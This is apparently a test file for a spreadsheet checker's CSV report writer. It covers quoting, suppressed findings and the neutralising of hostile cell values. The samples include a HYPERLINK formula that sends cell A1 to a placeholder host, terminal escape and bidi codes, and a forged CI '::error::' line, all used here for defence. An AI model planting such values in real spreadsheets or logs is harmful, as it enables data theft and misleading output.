import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csv } from '../../src/format/csv.js';
import { joined } from '../../src/format/types.js';
import { cellFinding, ctx, groupFinding, resultOf } from './sample.js';

describe('-f csv', () => {
  it('starts with a byte-order mark and a header row, then one finding a line (RFC 4180, CRLF)', () => {
    const out = joined(csv(resultOf([cellFinding, groupFinding]), ctx));
    expect(out.startsWith('\uFEFFfile,sheet,cell,row,column,severity,ruleId,message,value,source,suppressed,reason\r\n')).toBe(true);
    expect(out.endsWith('\r\n')).toBe(true);
    const rows: string[][] = parse(out.slice(1));
    expect(rows).toEqual([
      ['file', 'sheet', 'cell', 'row', 'column', 'severity', 'ruleId', 'message', 'value', 'source', 'suppressed', 'reason'],
      ['ho-so/xã đắk rơ wa.xlsx', 'Danh sách', 'H12', '12', 'H', 'error', 'giao-duc/an-toan-antt', cellFinding.message, 'Không', '004 §III.3.a', '', ''],
      ['ho-so/xa-b.xlsx', '', 'UBND XÃ B', '', '', 'warning', 'binh-dinh/xa/so-luong', groupFinding.message, '', '002 §IV.1.đ', '', ''],
    ]);
  });

  it('lists the findings reviewed suppressions accept after the others, marked, with the reason (quoted and neutralised like any text)', () => {
    const result = { ...resultOf([groupFinding]), suppressed: { file: 'hoso-suppressions.json', findings: [{ ...cellFinding, reason: '=Sở chấp nhận, công văn 12' }] } };
    const rows: string[][] = parse(joined(csv(result, ctx)).slice(1));
    expect(rows.slice(1)).toEqual([
      ['ho-so/xa-b.xlsx', '', 'UBND XÃ B', '', '', 'warning', 'binh-dinh/xa/so-luong', groupFinding.message, '', '002 §IV.1.đ', '', ''],
      ['ho-so/xã đắk rơ wa.xlsx', 'Danh sách', 'H12', '12', 'H', 'error', 'giao-duc/an-toan-antt', cellFinding.message, 'Không', '004 §III.3.a', 'true', "'=Sở chấp nhận, công văn 12"],
    ]);
  });

  it('quotes fields with commas and quotes', () => {
    const f = { ...cellFinding, message: 'Ghi "Có", không ghi "Không"' };
    expect(joined(csv(resultOf([f]), ctx)).split('\r\n')[1]).toContain(',"Ghi ""Có"", không ghi ""Không""",');
  });

  it("writes control, bidi and line-break characters as codes: no line of the report is the input's", () => {
    const f = { ...cellFinding, value: 'A\u001b[8m\u202eB\n::error::x\r\u009b2J', sheet: 'Danh\u2028sách' };
    const out = joined(csv(resultOf([f]), ctx));
    expect(out.split('\r\n')).toHaveLength(3);
    expect(out).not.toMatch(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2028\u2029]/);
    const rows: string[][] = parse(out.slice(1));
    expect(rows[1][1]).toBe('Danh\\u{2028}sách');
    expect(rows[1][8]).toBe('A\\u{1B}[8m\\u{202E}B\\u{A}::error::x\\u{D}\\u{9B}2J');
    // What needs no code is kept as it is.
    expect(rows[1][7]).toBe(cellFinding.message);
  });

  it('neutralises a value that Excel would run as a formula (=, +, -, @; a tab or carriage return is written as a code) with an apostrophe', () => {
    const formulas = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+1+2', '-3', '@SUM(A1)'];
    const out = joined(csv(resultOf(formulas.map((value, i) => ({ ...cellFinding, row: 10 + i, value }))), ctx));
    const rows: string[][] = parse(out.slice(1));
    expect(rows.slice(1).map((r) => r[8])).toEqual(formulas.map((v) => `'${v}`));
    expect(out).toContain(`,"'=HYPERLINK(""http://x.example/?""&A1,""Bấm"")",`);
  });
});
